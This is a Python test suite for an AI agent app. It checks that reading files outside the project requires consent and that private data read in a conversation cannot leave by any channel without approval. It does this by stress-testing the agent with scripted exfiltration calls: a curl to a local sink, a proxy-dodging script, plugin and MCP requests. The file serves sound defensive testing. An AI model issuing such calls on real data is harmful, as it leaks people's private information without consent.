"""Reading outside the project is asked about, and what was read there leaves only if somebody says so: as it is used,
with a scripted model, MCP servers, a plugin, chats and the real command."""

import json
import subprocess
import sys
from collections.abc import AsyncGenerator, Callable, Iterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from tests.plugin_sources import write_plugin
from tests.scenarios.conftest import commands, environment, home, server, talaria
from tests.scenarios.test_cli_terminal import Terminal
from tests.security.chats import FRIEND, OWNER, house_at
from tests.security.sink import Sink
from tests.security.world import MCP_SERVER

from talaria.app.build import Application, open_application
from talaria.app.settings import read_settings
from talaria.core.ids import SessionId
from talaria.core.messages import user
from talaria.core.questions import Answer, Question
from talaria.runtime.session import LiveSession
from talaria.testing import ModelServer, Reply, call

__all__ = ["commands", "environment", "home", "server", "talaria"]

Talaria = Callable[..., "subprocess.CompletedProcess[str]"]
LETTER = "Dear bank, the number is 4711."
CONSENT = "needs a person's consent, and nobody is here to give it"
PLUGIN = """
import urllib.request

def tell(args, **_):
    return urllib.request.urlopen(args["url"]).read().decode()

def register(ctx):
    ctx.register_tool("tell", "set", {"parameters": {"type": "object"}}, tell)
"""
SCRIPT = """
import os, urllib.request
proxy = urllib.request.ProxyHandler({"http": os.environ.pop("http_proxy")})
os.environ.clear()  # the address is of this machine, which usually needs no proxy
urllib.request.build_opener(proxy).open("ADDRESS")
"""


class Ada:
    """Answers as it was written down for her; then no."""

    def __init__(self, *answers: Answer) -> None:
        self._answers = list(answers)
        self.asked: list[Question] = []

    def may_approve(self) -> bool:
        return True

    async def allow(self, question: Question) -> Answer:
        self.asked.append(question)
        return self._answers.pop(0) if self._answers else "no"

    async def choose(self, question: str, choices: Sequence[str]) -> str | None:
        return None


class World:
    """A project, letters beside it, a model, and somebody who hears whatever gets out."""

    def __init__(self, folder: Path, model: ModelServer, sink: Sink) -> None:
        self.folder = folder
        self.model = model
        self.sink = sink
        self.home = folder / "home"
        self.project = folder / "project"
        self.letter = folder / "letters/bank.txt"
        for place in (self.home, self.project, self.letter.parent / "old", folder / "beside"):
            place.mkdir(parents=True, mode=0o700)
        self.letter.write_text(LETTER)
        (self.letter.parent / "old/tax.txt").write_text("Dear tax office.")
        (folder / "beside/x.txt").write_text("Something else.")
        self.config: dict[str, Any] = {
            "model": {"default": "test-model", "base_url": model.base_url},
            "web": {"allow_private": ["127.0.0.1"]},
        }

    @asynccontextmanager
    async def open(self) -> AsyncGenerator[Application]:
        files = {"config.yaml": json.dumps(self.config), ".env": f"SEARXNG_URL=http://127.0.0.1:{self.sink.port}"}
        for name, text in files.items():
            (self.home / name).write_text(text)
            (self.home / name).chmod(0o600)
        async with open_application(read_settings(self.home)) as app:
            yield app

    async def ask(self, live: LiveSession, *calls: tuple[str, dict[str, Any]]) -> list[str]:
        """One turn with these calls, one after the other; what the model was told."""
        before = len(self.model.requests)
        for number, (name, arguments) in enumerate(calls):
            self.model.say(Reply(calls=(call(name, id=f"c{before}_{number}", **arguments),)))
        self.model.say("Done.")
        report = await live.ask(user("Go."))
        assert report.outcome == "completed", report
        messages = self.model.requests[-1].json["messages"]
        results = [str(one["content"]) for one in messages if one["role"] == "tool"]
        return results[len(results) - len(calls) :]

    def reading(self, name: str = "letters/bank.txt") -> tuple[str, dict[str, Any]]:
        return "read_file", {"path": str(self.folder / name)}

    def searching(self, query: str) -> tuple[str, dict[str, Any]]:
        return "web_search", {"query": query}


@pytest.fixture
def world(tmp_path: Path, run_folder: None) -> Iterator[World]:
    with ModelServer() as model, Sink() as sink:
        yield World(tmp_path, model, sink)


def session(app: Application, project: Path, person: Ada | None = None) -> LiveSession:
    return app.session(cwd=project, origin="terminal", person=person)


@pytest.mark.parametrize("settings", ["", "terminal: {read: [FOLDER]}", "approvals: {allow: ['read_file(FOLDER/**)']}"])
def test_with_nobody_to_ask_only_what_the_settings_name_is_read(
    talaria: Talaria, server: ModelServer, home: Path, tmp_path: Path, settings: str
) -> None:
    letter = tmp_path / "letters/bank.txt"
    letter.parent.mkdir()
    letter.write_text(LETTER)
    with (home / "config.yaml").open("a") as config:
        config.write(settings.replace("FOLDER", str(letter.parent)))
    server.say(Reply(calls=(call("read_file", path="../letters/bank.txt"),)), "Done.")
    assert talaria("-q", "Go.").returncode == (0 if settings else 6)
    told = str(server.requests[-1].json["messages"][-1]["content"])
    assert (LETTER in told) == bool(settings)
    if not settings:
        assert f"{CONSENT}: {letter} is outside the project." in told
        assert "`terminal.read` in config.yaml" in told
        assert f"`read_file({letter.parent}/**)` to `approvals.allow`" in told


async def test_a_yes_for_the_session_covers_the_folder_and_every_tool_that_reads(world: World) -> None:
    ada = Ada("session", "no")
    async with world.open() as app:
        live = session(app, world.project, ada)
        letters = str(world.letter.parent)
        first, second, third, beside = await world.ask(
            live,
            world.reading(),
            world.reading("letters/old/tax.txt"),
            ("search_files", {"pattern": "number", "path": letters}),
            world.reading("beside/x.txt"),
        )
        assert LETTER in first
        assert "Dear tax office." in second
        assert LETTER in third
        assert "The person said no" in beside
        another = session(app, world.project)
        assert CONSENT in (await world.ask(another, world.reading()))[0]
    assert [(one.tool, one.in_session) for one in ada.asked] == [
        ("read_file", f"everything in {letters}"),
        ("read_file", f"everything in {world.folder}/beside"),
    ]
    assert ada.asked[0].text == f"Read {world.letter}? (A lasting yes covers everything in {letters}, in this project.)"
    assert ada.asked[0].reason == f"{world.letter} is outside the project"


async def test_a_yes_for_good_is_for_that_project_only(world: World) -> None:
    async with world.open() as app:
        await world.ask(session(app, world.project, Ada("always")), world.reading())
        (grant,) = await app.store.grants.list()
        assert (grant.tool, grant.what) == ("read", f"{world.letter.parent}/**")
        assert "Dear tax" in (await world.ask(session(app, world.project), world.reading("letters/old/tax.txt")))[0]
        assert CONSENT in (await world.ask(session(app, world.folder / "beside"), world.reading()))[0]


async def test_a_search_of_the_whole_home_can_be_allowed_only_once(world: World) -> None:
    ada = Ada("session", "no")
    async with world.open() as app:
        search = ("search_files", {"pattern": "number", "path": str(world.folder)})
        first, second = await world.ask(session(app, world.project, ada), search, search)
        assert LETTER in first
        assert "The person said no" in second
        assert await app.store.grants.list() == []
    assert [one.longest for one in ada.asked] == ["once", "once"]


async def test_every_way_out_asks_once_a_letter_was_read(world: World) -> None:
    """The control is the same calls in a conversation that has read nothing: each of them arrives."""
    port = world.sink.port
    write_plugin(world.home / "plugins" / "teller", PLUGIN)
    world.config["plugins"] = {"enabled": ["teller"]}
    world.config["terminal"] = {"network": ["127.0.0.1"]}
    world.config["approvals"] = {"allow": [f"read_file({world.letter})"]}
    world.config["mcp_servers"] = {
        "office": {"command": sys.executable, "args": ["-I", "-S", str(MCP_SERVER), str(port)], "sandbox": False}
    }
    address = f"http://127.0.0.1:{port}"
    ways: dict[str, tuple[str, dict[str, Any]]] = {
        "fetched": ("web_fetch", {"url": f"{address}/fetched-WORD"}),
        "searched": world.searching("searched-WORD"),
        "looked": ("mcp_office_lookup", {"words": "looked-WORD"}),
        "told": ("tell", {"url": f"{address}/told-WORD"}),
        "curled": ("terminal", {"command": f"curl -s -m 9 --noproxy '' {address}/curled-WORD"}),
        "scripted": ("execute_code", {"code": SCRIPT.replace("ADDRESS", f"{address}/scripted-WORD")}),
    }

    def calls(word: str) -> list[tuple[str, dict[str, Any]]]:
        return [
            (tool, {key: value.replace("WORD", word) for key, value in given.items()}) for tool, given in ways.values()
        ]

    async with world.open() as app:
        assert app.mcp is not None
        for one in calls("open"):  # each in a turn of its own: what comes back is from strangers
            await world.ask(session(app, world.project), one)
        heard = world.sink.heard.decode()
        assert [way for way in ways if f"{way}-open" not in heard] == []
        live = session(app, world.project)
        read, *told = await world.ask(live, world.reading(), *calls("secret"))
        assert LETTER in read
        assert [text for text in told if CONSENT not in text] == []
        assert "files from outside the project were read in this conversation" in told[0]
        assert [way for way in ways if f"{way}-secret" in world.sink.heard.decode()] == []


@pytest.mark.parametrize("tool", ["read_file", pytest.param("execute_code", marks=pytest.mark.long)])
async def test_a_letter_that_was_read_stays_private_in_later_turns_and_after_a_restart(world: World, tool: str) -> None:
    world.config["approvals"] = {"allow": ["read_file"]}
    script = ("execute_code", {"code": f"print(read_file(path='{world.letter}'))"})
    reading = world.reading() if tool == "read_file" else script
    async with world.open() as app:
        live = session(app, world.project)
        await world.ask(live, world.searching("before"))
        assert LETTER in (await world.ask(live, reading))[0]
        assert CONSENT in (await world.ask(live, world.searching("later")))[0]
        id = SessionId(live.id)
        await live.close()
    async with world.open() as app:
        live = app.session(cwd=world.project, origin="terminal", row=await app.store.sessions.get(id))
        assert CONSENT in (await world.ask(live, world.searching("restarted")))[0]
        assert await live.compact(keep_last=1)
        assert CONSENT in (await world.ask(live, world.searching("compacted")))[0]
        for _ in range(4):  # as often as was asked since, and the turn in which it was read
            await live.undo()
        assert CONSENT not in (await world.ask(live, world.searching("undone")))[0]
    heard = world.sink.heard.decode()
    assert [word for word in ("before", "later", "restarted", "compacted", "undone") if f"q={word}" in heard] == [
        "before",
        "undone",
    ]


async def test_what_another_conversation_read_elsewhere_is_private_here_too(world: World) -> None:
    world.config["approvals"] = {"allow": ["read_file"]}

    def finding(words: str) -> tuple[str, dict[str, Any]]:
        return "session_search", {"query": words}

    async with world.open() as app:
        (world.project / "plan.txt").write_text("Buy bread.")
        await world.ask(session(app, world.project), world.reading())
        await world.ask(session(app, world.project), world.reading("project/plan.txt"))
        found, told = await world.ask(session(app, world.project), finding("bread"), world.searching("open"))
        assert "bread" in found
        assert CONSENT not in told
        found, told = await world.ask(session(app, world.project), finding("4711"), world.searching("secret"))
        assert "4711" in found
        assert CONSENT in told


def test_at_the_terminal_the_question_names_the_folder_that_a_yes_covers(
    environment: dict[str, str], server: ModelServer, tmp_path: Path
) -> None:
    letters = tmp_path / "letters"
    letters.mkdir()
    for name in ("bank.txt", "tax.txt"):
        (letters / name).write_text(LETTER)
    reading = [Reply(calls=(call("read_file", id=name, path=str(letters / name)),)) for name in ("bank.txt", "tax.txt")]
    server.say(*reading, "Done.")
    terminal = Terminal(environment)
    try:
        terminal.answer("› ", "Go.\n")
        terminal.see(f"everything in {letters}", "is outside the project")
        terminal.answer("[N]o: ", "s\n")
        terminal.answer("Done.", "/exit\n")
        terminal.end()
    finally:
        terminal.close()
    told = [str(one["content"]) for one in server.requests[-1].json["messages"] if one["role"] == "tool"]
    assert [LETTER in text for text in told] == [True, True]


def test_a_file_that_the_person_names_is_read_and_is_private(
    talaria: Talaria, server: ModelServer, home: Path, tmp_path: Path
) -> None:
    long = tmp_path / "letters/long.txt"
    long.parent.mkdir()
    long.write_text(f"{LETTER}\n" + "x\n" * 60_000)
    (long.parent / "other.txt").write_text("Not named.")
    reading = tuple(
        call("read_file", id=f"c{number}", path=str(long.parent / name), limit=5)
        for number, name in enumerate(("long.txt", "other.txt"))
    )
    server.say(Reply(calls=reading), Reply(calls=(call("web_search", id="c3", query="bank"),)), "Done.")
    assert talaria("-q", f"Sum up @{long}").returncode == 6
    told = [str(one["content"]) for one in server.requests[-1].json["messages"] if one["role"] == "tool"]
    assert LETTER in told[0]
    assert CONSENT in told[1]
    assert CONSENT in told[2]


async def test_in_a_chat_only_an_admin_can_let_it_read_elsewhere(tmp_path: Path, run_folder: None) -> None:
    letter = tmp_path / "letters/bank.txt"
    letter.parent.mkdir()
    letter.write_text(LETTER)
    reading = Reply(calls=(call("read_file", path=str(letter)),))
    async with house_at(tmp_path) as house:
        house.model.say(reading, "Then not.")
        async with house.serve():
            await house.telegram.say("read it", user=FRIEND)
            await house.until(lambda: "Then not." in [one.text for one in house.telegram.list_messages(user=FRIEND)])
            assert "only an admin can allow" in house.telegram.list_messages(user=FRIEND)[0].text
            house.model.say(reading, "It is about money.")
            await house.telegram.say("read it", user=OWNER)
            await house.until(lambda: any(one.buttons for one in house.telegram.list_messages(user=OWNER)))
            asked = next(one for one in house.telegram.list_messages(user=OWNER) if one.buttons)
            assert f"everything in {letter.parent}" in asked.text
            assert [data.rpartition(":")[2] for _, data in asked.buttons] == ["once", "session", "always", "no"]
            await house.telegram.press(asked.id, asked.buttons[1][1])
            await house.until(
                lambda: "It is about money." in [one.text for one in house.telegram.list_messages(user=OWNER)]
            )
    told = [str(one["content"]) for one in house.model.requests[-1].json["messages"] if one["role"] == "tool"]
    assert LETTER in told[-1]
    refused = [request for request in house.model.requests if "The person said no" in request.body.decode()]
    assert refused
